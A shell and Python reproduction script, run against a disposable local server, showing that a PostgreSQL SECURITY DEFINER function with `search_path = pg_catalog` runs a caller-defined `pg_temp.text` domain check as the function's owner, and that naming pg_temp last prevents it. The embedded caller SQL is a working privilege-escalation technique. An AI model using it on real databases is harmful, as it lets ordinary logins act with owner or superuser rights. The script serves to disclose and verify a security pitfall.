#!/bin/sh
# PostgreSQL: a SECURITY DEFINER function with `SET search_path = pg_catalog` runs a caller's own type with its owner's rights.
#
# One would guess that a function which looks names up in pg_catalog alone can be led nowhere by whoever calls it. But pg_temp,
# the caller's own temporary schema, is searched for types and tables even where it is not named, and then before everything
# else. So `::text` in such a function is whatever the caller made under that name: a domain with a CHECK, which calls the
# caller's function, as the owner. Every login may make temporary objects, unless that was taken from PUBLIC. What helps is
# to name it last: `SET search_path = pg_catalog, pg_temp`.
# Seen with PostgreSQL 16.2 (of pgserver 0.1.4) and psycopg 3.3.9 on Debian 12, November 2026, and with Debian's 15.18:
#
#     pg_catalog: the caller's function ran as postgres
#     pg_catalog, pg_temp: the caller's function did not run
set -eu
folder=$(mktemp -d)
trap 'rm -rf "$folder"' EXIT

python3 -m venv "$folder/venv"
"$folder/venv/bin/pip" install -q --disable-pip-version-check pgserver==0.1.4 "psycopg[binary]==3.3.9"
chmod -R a+rX "$folder"
unset $(env | sed -n 's/^\(PG[A-Z]*\)=.*/\1/p')
"$folder/venv/bin/python" - "$folder" <<'PYTHON'
import os, pathlib, shutil, subprocess, sys

import psycopg

folder = pathlib.Path(sys.argv[1])
[binaries] = folder.glob("venv/lib/python3*/site-packages/pgserver/pginstall/bin")
data, sockets = folder / "data", folder / "sockets"
sockets.mkdir()
data.mkdir(mode=0o700)
as_user = {}
if os.geteuid() == 0:  # the server refuses to be root
    for path in (data, sockets):
        shutil.chown(path, "nobody")
    as_user = {"user": "nobody", "extra_groups": ()}


def do(*command):
    subprocess.run(list(map(str, command)), check=True, stdout=subprocess.DEVNULL, cwd="/", **as_user)


SERVICE = """
CREATE FUNCTION service() RETURNS void LANGUAGE plpgsql SECURITY DEFINER SET search_path = {path} AS
    $$ BEGIN PERFORM json_build_array('what', 'happened')::text; END $$;
"""
CALLER = """
CREATE FUNCTION pg_temp.mine(given pg_catalog.text) RETURNS boolean LANGUAGE plpgsql AS
    $$ BEGIN RAISE NOTICE 'the caller''s function ran as %', current_user; RETURN true; END $$;
CREATE DOMAIN pg_temp.text AS pg_catalog.text CHECK (pg_temp.mine(VALUE));
"""
do(binaries / "initdb", "-D", data, "-U", "postgres", "-A", "trust", "--no-locale", "--no-sync")
do(binaries / "pg_ctl", "-D", data, "-w", "-l", data / "log", "-o", f"-k {sockets} -h ''", "start")
found = []
try:
    where = {"host": str(sockets), "dbname": "postgres", "autocommit": True}
    with psycopg.connect(user="postgres", **where) as owner:
        owner.execute("CREATE ROLE caller LOGIN")
        for path in ("pg_catalog", "pg_catalog, pg_temp"):
            owner.execute(SERVICE.replace("CREATE", "CREATE OR REPLACE").format(path=path))
            with psycopg.connect(user="caller", **where) as caller:
                said = []
                caller.add_notice_handler(lambda notice: said.append(notice.message_primary))
                caller.execute(CALLER)
                caller.execute("SELECT service()")
            found.append(f"{path}: {said[0] if said else 'the caller' + chr(39) + 's function did not run'}")
finally:
    do(binaries / "pg_ctl", "-D", data, "-m", "immediate", "-w", "stop")
print("\n".join(found))
sys.exit(
    found
    != [
        "pg_catalog: the caller's function ran as postgres",
        "pg_catalog, pg_temp: the caller's function did not run",
    ]
)
PYTHON
